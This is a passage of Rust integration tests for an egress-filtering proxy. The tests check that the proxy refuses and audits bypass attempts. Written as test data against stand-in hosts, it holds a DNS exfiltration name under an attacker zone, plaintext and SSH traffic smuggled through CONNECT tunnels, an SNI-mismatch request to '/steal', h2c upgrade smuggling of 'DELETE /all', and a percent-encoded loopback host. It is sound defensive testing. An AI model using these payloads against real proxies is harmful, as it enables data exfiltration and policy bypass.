        let _ = s.read_to_string(&mut out);
        out
    });
    let mut idle = TcpStream::connect(addr).expect("idle connect");
    idle.set_read_timeout(Some(Duration::from_secs(10)))
        .expect("timeout");
    std::thread::sleep(Duration::from_millis(200)); // the request is upstream now

    let _ = stop_tx.send(());
    rt.block_on(served).expect("join").expect("serve");
    let t = Instant::now();
    let left = rt.block_on(proxy.drain(Duration::from_secs(8)));
    let took = t.elapsed();
    assert_eq!(left, 0, "connections still open after the drain");
    assert!(took < Duration::from_secs(4), "drain took {took:?}");
    let answer = in_flight.join().expect("client");
    assert!(
        answer.starts_with("HTTP/1.1 200") && answer.ends_with("slow"),
        "{answer:?}"
    );
    let mut buf = [0u8; 16];
    assert_eq!(idle.read(&mut buf).expect("idle read"), 0, "idle closed");
    assert!(TcpStream::connect(addr).is_err(), "no longer accepting");
    let req = last(&sink.events(), "egress.request");
    assert_eq!(req.resource, format!("http://{up_addr}/slow"));
    assert_eq!(req.reason.code(), "rule_allow");
}

/// Regression: the HTTP layer cannot parse a percent-encoded host
/// (`http://%31%32%37.0.0.1/`), so such requests were refused as
/// `malformed_request`. They are judged on the host they decode to: refused
/// with that host's own reason, forwarded to it when allowed, and
/// `invalid_host` when even the decoded host is not valid.
#[test]
fn percent_encoded_host_is_judged_on_the_host_it_names() {
    let dns = DnsResponder::start();
    let up = Upstream::http(lo(27));
    let port = up.port();
    let head =
        |target: &str| format!("GET {target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
    let encoded = format!("http://%31%32%37.0.0.%32%37:{port}/x?q=1");

    let strict = start(
        spec(Mode::ReadPublic, vec![], false),
        ProxyConfig::default(),
        &dns,
    );
    let resp = exchange(strict.addr, &head(&encoded));
    assert!(resp.starts_with("http/1.1 403"), "{resp}");
    assert!(
        resp.contains("x-airlock-reason: loopback_address"),
        "{resp}"
    );
    let ev = last(&strict.events(), "egress.request");
    assert_eq!(
        (ev.resource.as_str(), ev.reason.code()),
        (
            format!("http://127.0.0.27:{port}/x").as_str(),
            "loopback_address"
        )
    );

    let resp = exchange(strict.addr, &head("http://exa%00mple.com/"));
    assert!(resp.starts_with("http/1.1 403"), "{resp}");
    assert!(resp.contains("x-airlock-reason: invalid_host"), "{resp}");
    assert_eq!(
        last(&strict.events(), "egress.request").reason.code(),
        "invalid_host"
    );
    assert_eq!(up.hits(), 0);

    let open = start(
        spec(Mode::ReadPublic, vec![], true),
        ProxyConfig::default(),
        &dns,
    );
    let resp = exchange(open.addr, &head(&encoded));
    assert!(resp.starts_with("http/1.1 200"), "{resp}");
    let body = resp.split("\r\n\r\n").nth(1).unwrap_or_default();
    let v = json(body);
    assert_eq!(
        (v["path"].as_str(), v["query"].as_str()),
        (Some("/x"), Some("q=1"))
    );
    assert_eq!(up.hits(), 1);
}

/// Send raw bytes to the proxy and read its whole answer (lowercased).
fn exchange(addr: SocketAddr, head: &str) -> String {
    let mut s = TcpStream::connect(addr).expect("connect proxy");
    s.set_read_timeout(Some(Duration::from_secs(5)))
        .expect("timeout");
    s.write_all(head.as_bytes()).expect("write");
    let mut buf = Vec::new();
    let _ = s.read_to_end(&mut buf);
    String::from_utf8_lossy(&buf).to_ascii_lowercase()
}

// ---------------------------------------------------------------------------
// The transport holes of the outside review: names resolved although
// refused (2), CONNECT ports and tunnel contents (3), upgrade smuggling (4),
// 101 headers, query presence and aggregated failures (8).
// ---------------------------------------------------------------------------

/// Open a CONNECT tunnel: the proxy's answer head and the socket.
fn open_tunnel(addr: SocketAddr, target: &str) -> (TcpStream, String) {
    let mut s = TcpStream::connect(addr).expect("connect proxy");
    s.set_read_timeout(Some(Duration::from_secs(10)))
        .expect("timeout");
    s.write_all(format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n").as_bytes())
        .expect("write CONNECT");
    let mut head = Vec::new();
    let mut byte = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") {
        match s.read(&mut byte) {
            Ok(1) => head.push(byte[0]),
            _ => break,
        }
    }
    (s, String::from_utf8_lossy(&head).to_ascii_lowercase())
}

/// Read until the peer closes (or 10 s), lowercased.
fn read_all(s: &mut impl Read) -> String {
    let mut buf = Vec::new();
    let _ = s.read_to_end(&mut buf);
    String::from_utf8_lossy(&buf).to_ascii_lowercase()
}

/// A TLS client over `tcp` for `name`, trusting `ca_pem`.
fn tls_client(
    tcp: TcpStream,
    name: &str,
    ca_pem: &str,
) -> rustls::StreamOwned<rustls::ClientConnection, TcpStream> {
    use rustls::pki_types::CertificateDer;
    use rustls::pki_types::pem::PemObject;
    let mut roots = rustls::RootCertStore::empty();
    for c in CertificateDer::pem_slice_iter(ca_pem.as_bytes()) {
        roots.add(c.expect("pem")).expect("root");
    }
    let mut cfg = rustls::ClientConfig::builder_with_provider(Arc::new(
        rustls::crypto::aws_lc_rs::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .expect("versions")
    .with_root_certificates(roots)
    .with_no_client_auth();
    cfg.alpn_protocols = vec![b"http/1.1".to_vec()];
    let server = rustls::pki_types::ServerName::try_from(name.to_owned()).expect("name");
    let conn = rustls::ClientConnection::new(Arc::new(cfg), server).expect("client");
    rustls::StreamOwned::new(conn, tcp)
}

/// The egress decisions recorded for `action` with `reason`.
fn decisions(p: &Running, action: &str, reason: &str) -> Vec<AuditEvent> {
    p.events()
        .into_iter()
        .filter(|e| e.action == action && e.reason.code() == reason)
        .collect()
}

/// Wait (≤ 5 s) until `f` holds: audit records of a tunnel land after its
/// socket closes.
fn eventually(mut f: impl FnMut() -> bool) -> bool {
    (0..500).any(|_| {
        let ok = f();
        if !ok {
            std::thread::sleep(Duration::from_millis(10));
        }
        ok
    })
}

fn detail(ev: &AuditEvent, key: &str) -> Option<String> {
    ev.details
        .get(key)
        .and_then(|v| v.as_str())
        .map(str::to_owned)
}

#[test]
fn refused_names_are_never_resolved_dns_exfiltration() {
    let dns = DnsResponder::start();
    let up = Upstream::http(lo(40));
    dns.set("docs.test", DnsAnswer::Fixed(vec![lo(40)]));
    let rules = vec![RuleSpec {
        methods: vec!["GET".into()],
        ..on_any_port(&["docs.test"], Outcome::Allow)
    }];
    let p = start(
        bare_spec(Mode::DenyAll, rules, true),
        ProxyConfig::default(),
        &dns,
    );
    // The attack: data in a name under the attacker's zone.
    let leak = "c2vjcmv0lwrhdge.exfil.test";
    let resp = exchange(
        p.addr,
        &format!("GET http://{leak}/ HTTP/1.1\r\nHost: {leak}\r\nConnection: close\r\n\r\n"),
    );
    assert!(resp.starts_with("http/1.1 403"), "{resp}");
    assert!(resp.contains("x-airlock-reason: deny_all"), "{resp}");
    let ev = last(&p.events(), "egress.request");
    assert_eq!(
        (ev.resource.as_str(), ev.decision, ev.reason.code()),
        (
            format!("http://{leak}/").as_str(),
            Some(Outcome::Deny),
            "deny_all"
        )
    );
    let (_s, head) = open_tunnel(p.addr, &format!("{leak}:443"));
    assert!(head.starts_with("http/1.1 403"), "{head}");
    assert!(head.contains("x-airlock-reason: deny_all"), "{head}");
    let ev = last(&p.events(), "egress.connect");
    assert_eq!(
        (ev.resource, ev.reason.code()),
        (format!("{leak}:443"), "deny_all")
    );
    // A method no rule allows on an allowed host: refused on its facts.
    let resp = exchange(
        p.addr,
        &format!(
            "DELETE http://docs.test:{}/x HTTP/1.1\r\nHost: docs.test\r\nConnection: close\r\n\r\n",
            up.port()
        ),
    );
    assert!(resp.contains("x-airlock-reason: deny_all"), "{resp}");
    assert_eq!(dns.queries(leak), 0, "no DNS query for a refused name");
    assert_eq!(dns.queries("docs.test"), 0);
    // The legitimate request is resolved and served.
    let r = curl(&p, &[&format!("http://docs.test:{}/ok", up.port())]);
    assert_eq!(r.status, 200, "{}", r.stderr);
    assert!(dns.queries("docs.test") >= 1);

    // read_public: a write, or a read on a port the mode does not cover.
    let p = start(
        bare_spec(Mode::ReadPublic, vec![], true),
        ProxyConfig::default(),
        &dns,
    );
    for (req, reason) in [
        ("POST http://w.exfil.test/ HTTP/1.1", "default_deny"),
        ("GET http://p.exfil.test:8080/ HTTP/1.1", "port_not_allowed"),
    ] {
        let resp = exchange(
            p.addr,
            &format!("{req}\r\nHost: x\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"),
        );
        assert!(
            resp.contains(&format!("x-airlock-reason: {reason}")),
            "{req}: {resp}"
        );
        assert_eq!(last(&p.events(), "egress.request").reason.code(), reason);
    }
    let (_s, head) = open_tunnel(p.addr, "c.exfil.test:8443");
    assert!(
        head.contains("x-airlock-reason: port_not_allowed"),
        "{head}"
    );
    for name in ["w.exfil.test", "p.exfil.test", "c.exfil.test"] {
        assert_eq!(dns.queries(name), 0, "{name} was resolved");
    }
}

#[test]
fn connect_to_a_port_no_rule_covers_is_refused_before_dialing() {
    let dns = DnsResponder::start();
    // A plaintext service on a non-HTTPS port of an allowed host.
    let up = Upstream::http(lo(41));
    dns.set("api.test", DnsAnswer::Fixed(vec![lo(41)]));
    let rules = vec![RuleSpec {
        schemes: vec![airlock_policy::Scheme::Https],
        ..RuleSpec::for_hosts(&["api.test"], Outcome::Allow)
    }];
    let p = start(
        bare_spec(Mode::ReadPublic, rules, true),
        ProxyConfig::default(),
        &dns,
    );
    for port in [up.port(), 22, 25, 8080] {
        let (mut s, head) = open_tunnel(p.addr, &format!("api.test:{port}"));
        assert!(head.starts_with("http/1.1 403"), "{port}: {head}");
        assert!(
            head.contains("x-airlock-reason: port_not_allowed"),
            "{port}: {head}"
        );
        // The plaintext write that used to follow the CONNECT.
        let _ = s.write_all(b"POST /admin HTTP/1.1\r\nHost: api.test\r\nContent-Length: 0\r\n\r\n");
        let ev = last(&p.events(), "egress.connect");
        assert_eq!(
            (ev.resource, ev.decision, ev.reason.code()),
            (
                format!("api.test:{port}"),
                Some(Outcome::Deny),
                "port_not_allowed"
            )
        );
    }
    assert_eq!(up.connections(), 0, "nothing was dialed");
    assert_eq!(up.hits(), 0);
    assert_eq!(dns.queries("api.test"), 0, "refused on the port alone");
}

#[test]
fn plaintext_in_a_blind_tunnel_is_refused_as_tunnel_not_tls() {
    let dns = DnsResponder::start();
    let up = Upstream::http(lo(42));
    dns.set("api.test", DnsAnswer::Fixed(vec![lo(42)]));
    // HTTPS-only, every method and path on this port: a blind tunnel.
    let rules = vec![RuleSpec {
        schemes: vec![airlock_policy::Scheme::Https],
        ports: vec![up.port()],
        ..RuleSpec::for_hosts(&["api.test"], Outcome::Allow)
    }];
    let mut cfg = ProxyConfig::default();
    cfg.timeouts.tls_handshake = Duration::from_millis(500);
    let p = start(bare_spec(Mode::DenyAll, rules, true), cfg, &dns);
    let target = format!("api.test:{}", up.port());

    // 1. A plaintext HTTP write inside the tunnel.
    let (mut s, head) = open_tunnel(p.addr, &target);
    assert!(head.starts_with("http/1.1 200"), "{head}");
    assert_eq!(
        detail(&last(&p.events(), "egress.connect"), "mode").as_deref(),
        Some("tunnel")
    );
    s.write_all(b"POST /admin HTTP/1.1\r\nHost: api.test\r\nContent-Length: 1\r\n\r\nx")
        .expect("write");
    let answer = read_all(&mut s);
    assert!(answer.starts_with("http/1.1 403"), "{answer}");
    assert!(
        answer.contains("x-airlock-reason: tunnel_not_tls"),
        "{answer}"
    );
    // 2. Another protocol (an SSH banner).
    let (mut s, _) = open_tunnel(p.addr, &target);
    s.write_all(b"SSH-2.0-OpenSSH_9.6\r\n").expect("write");
    assert_eq!(read_all(&mut s), "", "closed without relaying");
    // 3. A server-speaks-first protocol: the client waits for a banner.
    let (mut s, _) = open_tunnel(p.addr, &target);
    assert_eq!(read_all(&mut s), "", "closed after the bounded wait");

    assert!(eventually(|| decisions(&p, "egress.tls", "tunnel_not_tls")
        .len()
        == 3));
    for ev in decisions(&p, "egress.tls", "tunnel_not_tls") {
        assert_eq!(
            (ev.resource.as_str(), ev.decision, detail(&ev, "mode")),
            (target.as_str(), Some(Outcome::Deny), Some("tunnel".into()))
        );
    }
    assert_eq!(up.hits(), 0, "no plaintext byte reached the upstream");
}

#[test]
fn tls_for_another_name_in_a_blind_tunnel_is_sni_mismatch() {
    let dns = DnsResponder::start();
    let ca = TestCa::new();
    let up = Upstream::https(lo(43), &ca, &["api.test", "other.test"]);
    dns.set("api.test", DnsAnswer::Fixed(vec![lo(43)]));
    let dir = tempfile::tempdir().expect("tmp");
    let up_ca = ca.write_pem(dir.path(), "up-ca.pem");
    let rules = vec![RuleSpec {
        schemes: vec![airlock_policy::Scheme::Https],
        ports: vec![up.port()],
        ..RuleSpec::for_hosts(&["api.test"], Outcome::Allow)
    }];
    let p = start(
        bare_spec(Mode::DenyAll, rules, true),
        ProxyConfig::default(),
        &dns,
    );
    // The legitimate case: TLS to the CONNECT host passes the blind tunnel.
    let r = curl(
        &p,
        &[
            "--cacert",
            &ca_arg(&up_ca),
            "-X",
            "POST",
            "-d",
            "z",
            &format!("https://api.test:{}/w", up.port()),
        ],
    );
    assert_eq!(r.status, 200, "{}", r.stderr);
    assert_eq!(json(&r.body)["method"], "POST");
    let hits = up.hits();
    // The attack: CONNECT to the allowed host, TLS to another name.
    let (s, head) = open_tunnel(p.addr, &format!("api.test:{}", up.port()));
    assert!(head.starts_with("http/1.1 200"), "{head}");
    let mut tls = tls_client(s, "other.test", ca.cert_pem());
    let sent = tls.write_all(b"GET /steal HTTP/1.1\r\nHost: other.test\r\n\r\n");
    let mut buf = Vec::new();
    assert!(
        sent.is_err() || tls.read_to_end(&mut buf).is_err() || buf.is_empty(),
        "the handshake must not complete"
    );
    assert!(eventually(
        || !decisions(&p, "egress.tls", "sni_mismatch").is_empty()
    ));
    let ev = last(&p.events(), "egress.tls");
    assert_eq!(
        (ev.resource, ev.decision, ev.reason.code()),
        (
            format!("api.test:{}", up.port()),
            Some(Outcome::Deny),
            "sni_mismatch"
        )
    );
    assert_eq!(up.hits(), hits);
}

#[test]
fn plaintext_in_an_intercepted_tunnel_is_refused_as_tunnel_not_tls() {
    let (dns, _ca, up, _d, _up_ca, cfg) = https_setup(44);
    let p = start(spec(Mode::ReadPublic, vec![], true), cfg, &dns);
    let target = format!("secure.test:{}", up.port());
    let (mut s, head) = open_tunnel(p.addr, &target);
    assert!(head.starts_with("http/1.1 200"), "{head}");
    assert_eq!(
        detail(&last(&p.events(), "egress.connect"), "mode").as_deref(),
        Some("intercept")
    );
    s.write_all(b"GET / HTTP/1.1\r\nHost: secure.test\r\n\r\n")
        .expect("write");
    let answer = read_all(&mut s);
    assert!(
        answer.contains("x-airlock-reason: tunnel_not_tls"),
        "{answer}"
    );
    assert!(eventually(|| !decisions(
        &p,
        "egress.tls",
        "tunnel_not_tls"
    )
    .is_empty()));
    let ev = last(&p.events(), "egress.tls");
    assert_eq!(
        (ev.resource.clone(), ev.decision, detail(&ev, "mode")),
        (target, Some(Outcome::Deny), Some("intercept".into()))
    );
    assert_eq!(up.hits(), 0);
}

/// An HTTP/1.1 request on an intercepted tunnel to `secure.test`: the
/// answer, lowercased.
fn inside_tunnel(p: &Running, port: u16, request: &str) -> String {
    let (s, head) = open_tunnel(p.addr, &format!("secure.test:{port}"));
    assert!(head.starts_with("http/1.1 200"), "{head}");
    let pem = std::fs::read_to_string(&p.ca_path).expect("proxy ca");
    let mut tls = tls_client(s, "secure.test", &pem);
    tls.write_all(request.as_bytes()).expect("write");
    let mut buf = vec![0u8; 4096];
    let n = tls.read(&mut buf).unwrap_or(0);
    String::from_utf8_lossy(&buf[..n]).to_ascii_lowercase()
}

#[test]
fn h2c_upgrade_smuggling_is_refused_plain_and_in_a_tunnel() {
    let (dns, _ca, up, _d, _up_ca, cfg) = https_setup(45);
    let plain = Upstream::http(lo(45));
    dns.set("ws.test", DnsAnswer::Fixed(vec![lo(45)]));
    // Every method allowed on both hosts, but no rule allows WebSocket.
    let rules = vec![
        on_any_port(&["ws.test"], Outcome::Allow),
        on_any_port(&["secure.test"], Outcome::Allow),
    ];
    let mut s = bare_spec(Mode::ReadPublic, rules, true);
    s.inspect_all = true;
    let p = start(s, cfg, &dns);
    for (upgrade, connection) in [
        ("h2c", "Upgrade, HTTP2-Settings"),
        ("websocket", "Upgrade"),
        ("websocket, h2c", "upgrade"),
        ("H2C", "keep-alive, UPGRADE"),
    ] {
        let resp = exchange(
            p.addr,
            &format!(
                "GET http://ws.test:{port}/ws HTTP/1.1\r\nHost: ws.test:{port}\r\nConnection: {connection}\r\nUpgrade: {upgrade}\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\nDELETE /all HTTP/1.1\r\nHost: ws.test\r\nConnection: close\r\n\r\n",
                port = plain.port()
            ),
        );
        assert!(resp.starts_with("http/1.1 403"), "{upgrade}: {resp}");
        assert!(
            resp.contains("x-airlock-reason: upgrade_refused"),
            "{upgrade}: {resp}"
        );
        let ev = decisions(&p, "egress.request", "upgrade_refused")
            .pop()
            .expect("audited");
        assert_eq!(
            (ev.decision, detail(&ev, "upgrade")),
            (Some(Outcome::Deny), Some(upgrade.to_owned()))
        );
    }
    assert_eq!(
        plain.hits(),
        0,
        "neither the upgrade nor the DELETE arrived"
    );

    // The same inside an intercepted tunnel, and a CONNECT inside it.
    let port = up.port();
    let resp = inside_tunnel(
        &p,
        port,
        &format!(
            "GET /ws HTTP/1.1\r\nHost: secure.test:{port}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n"
        ),
    );
    assert!(resp.starts_with("http/1.1 403"), "{resp}");
    assert!(resp.contains("x-airlock-reason: upgrade_refused"), "{resp}");
    let resp = inside_tunnel(
        &p,
        port,
        &format!("CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: secure.test:{port}\r\n\r\n"),
    );
    assert!(resp.contains("x-airlock-reason: upgrade_refused"), "{resp}");
    let inner = decisions(&p, "egress.request", "upgrade_refused");
    assert!(
        inner
            .iter()
            .filter(|e| detail(e, "via").as_deref() == Some("intercepted_tunnel"))
            .count()
            >= 2,
        "{inner:#?}"
    );
    assert_eq!(up.hits(), 0);
}

/// A raw upstream on `ip` that answers every request with `answer` and
/// then echoes bytes.
fn raw_upstream(ip: IpAddr, answer: &'static str) -> SocketAddr {
    let l = std::net::TcpListener::bind(SocketAddr::new(ip, 0)).expect("bind");
    let addr = l.local_addr().expect("addr");
    std::thread::spawn(move || {
        for s in l.incoming() {
            let Ok(mut s) = s else { return };
            std::thread::spawn(move || {
                let mut head = Vec::new();
                let mut b = [0u8; 1];
                while !head.ends_with(b"\r\n\r\n") && s.read(&mut b).unwrap_or(0) == 1 {
                    head.push(b[0]);
                }
                let _ = s.write_all(answer.as_bytes());
                let mut buf = [0u8; 1024];
                while let Ok(n) = s.read(&mut buf) {
                    if n == 0 || s.write_all(&buf[..n]).is_err() {
                        break;
                    }
                }
            });
        }
    });
    addr
}

fn websocket_request(host: &str, port: u16) -> String {
    format!(
        "GET http://{host}:{port}/ws HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
    )
}

fn websocket_rule(host: &str) -> RuleSpec {
    RuleSpec {
        methods: vec!["GET".into()],
        paths: vec!["/ws".into()],
        websocket: true,
        ..on_any_port(&[host], Outcome::Allow)
    }
}

#[test]
fn an_upstream_switching_to_another_protocol_is_upgrade_mismatch() {
    let dns = DnsResponder::start();
    let up = raw_upstream(
        lo(46),
        "HTTP/1.1 101 Switching Protocols\r\nConnection: upgrade\r\nUpgrade: h2c\r\n\r\n",
    );
    dns.set("ws.test", DnsAnswer::Fixed(vec![lo(46)]));
    let p = start(
        bare_spec(Mode::DenyAll, vec![websocket_rule("ws.test")], true),
        ProxyConfig::default(),
        &dns,
    );
    let resp = exchange(p.addr, &websocket_request("ws.test", up.port()));
    assert!(resp.starts_with("http/1.1 502"), "{resp}");
    assert!(
        resp.contains("x-airlock-reason: upgrade_mismatch"),
        "{resp}"
    );
    let ev = last(&p.events(), "egress.upgrade");
    assert_eq!(
        (ev.resource, ev.decision, ev.reason.code()),
        (
            format!("http://ws.test:{}/ws", up.port()),
            Some(Outcome::Deny),
            "upgrade_mismatch"
        )
    );
}

#[test]
fn a_101_echoing_a_secret_has_its_headers_scrubbed() {
    use airlock_broker::{Binding, Broker, Grant, RunLimits};
    use airlock_types::{RunId, Secret};
    let dns = DnsResponder::start();
    let up = raw_upstream(
        lo(47),
        "HTTP/1.1 101 Switching Protocols\r\nConnection: upgrade\r\nUpgrade: websocket\r\nX-Echo: Bearer real-value-0123456789abcdef\r\n\r\n",
    );
    dns.set("ws.test", DnsAnswer::Fixed(vec![lo(47)]));
    let broker = Arc::new(Broker::new());
    let run = RunId::new("run-101").expect("id");
    let binding = Binding::new(
        "TOK",
        vec!["ws.test".into()],
        None,
        None,
        vec![],
        vec![],
        None,
    )
    .expect("binding");
    broker
        .start_run(
            &run,
            vec![Grant::new(
                "TOK",
                binding,
                Secret::new("real-value-0123456789abcdef".to_owned()),
            )],
            RunLimits::default(),
        )
        .expect("run");
    let policy = EgressPolicy::compile(bare_spec(
        Mode::DenyAll,
        vec![websocket_rule("ws.test")],
        true,
    ))
    .expect("policy");
    let cfg = ProxyConfig {
        resolver: ResolverSettings::NameServers(vec![dns.addr()]),
        ..ProxyConfig::default()
    };
    let sink = Arc::new(MemorySink::new());
    let s2: Arc<dyn EventSink> = sink.clone();
    let (tx, rx) = std::sync::mpsc::channel();
    let (_stop, stop_rx) = tokio::sync::oneshot::channel::<()>();
    std::thread::spawn(move || {
        let rt = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(2)
            .enable_all()
            .build()
            .expect("rt");
        rt.block_on(async move {
            let proxy = Proxy::with_credentials(
                cfg,
                Arc::new(policy),
                s2,
                airlock_types::RunContext::new(
                    airlock_types::TenantId::default_tenant(),
                    run,
                    airlock_types::Actor::system(),
                ),
                broker,
            )
            .expect("proxy");
            let l = tokio::net::TcpListener::bind("127.0.0.1:0")
                .await
                .expect("bind");
            let _ = tx.send(l.local_addr().expect("addr"));
            let _ = proxy
                .serve(l, async {
                    let _ = stop_rx.await;
                })
                .await;
        });
    });
    let addr = rx.recv().expect("proxy");
    let mut s = TcpStream::connect(addr).expect("connect");
    s.set_read_timeout(Some(Duration::from_secs(5)))
        .expect("timeout");
    s.write_all(websocket_request("ws.test", up.port()).as_bytes())
        .expect("write");
    let mut buf = [0u8; 1024];
    let n = s.read(&mut buf).expect("read 101");
    let head = String::from_utf8_lossy(&buf[..n]).to_string();
    assert!(head.starts_with("HTTP/1.1 101"), "{head}");
    assert!(head.contains("Bearer [SECRET:TOK]"), "{head}");
    assert!(!head.contains("real-value"), "{head}");
    assert_eq!(
        sink.events()
            .iter()
            .filter(|e| e.action == "egress.request")
            .map(|e| e.reason.code())
            .collect::<Vec<_>>(),
        vec!["rule_allow"]
    );
}

#[test]
fn egress_records_say_a_query_was_present_never_its_text() {
    let dns = DnsResponder::start();
    let up = Upstream::http(lo(48));
    dns.set("api.test", DnsAnswer::Fixed(vec![lo(48)]));
    let p = start(
        spec(Mode::ReadPublic, vec![], true),
        ProxyConfig::default(),
        &dns,
    );
    let r = curl(
        &p,
        &[&format!(
            "http://api.test:{}/q?token=s3cret-text",
            up.port()
        )],
    );
    assert_eq!(r.status, 200, "{}", r.stderr);
    let ev = last(&p.events(), "egress.request");
    assert_eq!(detail(&ev, "query").as_deref(), Some("true"));
    assert!(!format!("{ev:?}").contains("s3cret"), "{ev:?}");
    let r = curl(&p, &[&format!("http://api.test:{}/q", up.port())]);
    assert_eq!(r.status, 200);
    assert_eq!(detail(&last(&p.events(), "egress.request"), "query"), None);
}

#[test]
fn a_flood_of_malformed_connections_is_aggregated_never_lost() {
    let dns = DnsResponder::start();
    let p = start(
        spec(Mode::ReadPublic, vec![], true),
        ProxyConfig::default(),
        &dns,
    );
    const N: usize = 1000;
    let started = Instant::now();
    for i in 0..N {
        let mut s = TcpStream::connect(p.addr).expect("connect");
        s.write_all(b"GARBAGE\r\n\r\n").expect("write");
        s.set_read_timeout(Some(Duration::from_secs(5)))
            .expect("timeout");
        let mut buf = [0u8; 64];
        let n = s.read(&mut buf).unwrap_or(0);
        // Every refusal is still answered.
        assert!(buf[..n].starts_with(b"HTTP/1.1 400"), "connection {i}");
    }
    // A different failure in the same seconds is never merged into them.
    let resp = exchange(p.addr, "GET /not-absolute HTTP/1.1\r\nHost: x\r\n\r\n");
    assert!(resp.starts_with("http/1.1 400"), "{resp}");
    let malformed = |p: &Running| -> Vec<AuditEvent> {
        p.events()
            .into_iter()
            .filter(|e| e.action == "egress.connection" && e.reason.code() == "malformed_request")
            .collect()
    };
    let count = |evs: &[AuditEvent]| -> u64 {
        evs.iter()
            .map(|e| {
                e.details
                    .get("repeated")
                    .and_then(|r| r.as_u64())
                    .unwrap_or(1)
            })
            .sum()
    };
    // The repeats are reported once their window has closed.
    assert!(
        eventually(|| count(&malformed(&p)) == N as u64),
        "counted {} of {N}",
        count(&malformed(&p))
    );
    let evs = malformed(&p);
    let windows = started.elapsed().as_secs() + 2;
    assert!(
        evs.len() as u64 <= 2 * windows,
        "{} records for {N} identical failures in {:?}",
        evs.len(),
        started.elapsed()
    );
    assert_eq!(
        (
            evs[0].resource.as_str(),
            detail(&evs[0], "detail").as_deref()
        ),
        ("client 127.0.0.1", Some("malformed request"))
    );
    assert_eq!(
        decisions(&p, "egress.request", "malformed_request").len(),
        1,
        "the other failure kept its own record"
    );
}
